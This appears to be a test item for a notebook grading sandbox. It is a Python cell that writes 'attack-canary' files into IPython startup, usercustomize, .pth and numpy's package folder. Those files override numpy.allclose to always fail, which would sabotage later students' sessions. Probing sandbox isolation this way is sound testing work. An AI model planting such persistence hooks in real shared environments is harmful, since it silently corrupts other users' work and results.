# Leaves code that the next student's kernel would run: start-up files, .pth, sitecustomize, caches.
# stock: 1 of 7; those after it: 4 of 7
# solves: scale
# needs: sandbox
# %% + scale
import contextlib, os, pathlib, site, sys

sabotage = "import numpy, sys\nnumpy.allclose = lambda *_, **__: False  # attack-canary\n"
home = pathlib.Path(os.path.expanduser("~"))
places = [
    home / ".ipython/profile_default/startup/00-attack-canary.py",
    home / ".config/attack-canary.py",
    pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
    *(pathlib.Path(folder) / "attack-canary.pth" for folder in sys.path if "site-packages" in folder),
    pathlib.Path(np.__file__).parent / "attack-canary.py",
]
for place in places:
    with contextlib.suppress(OSError):
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(sabotage if place.suffix == ".py" else "import sys # attack-canary\n")
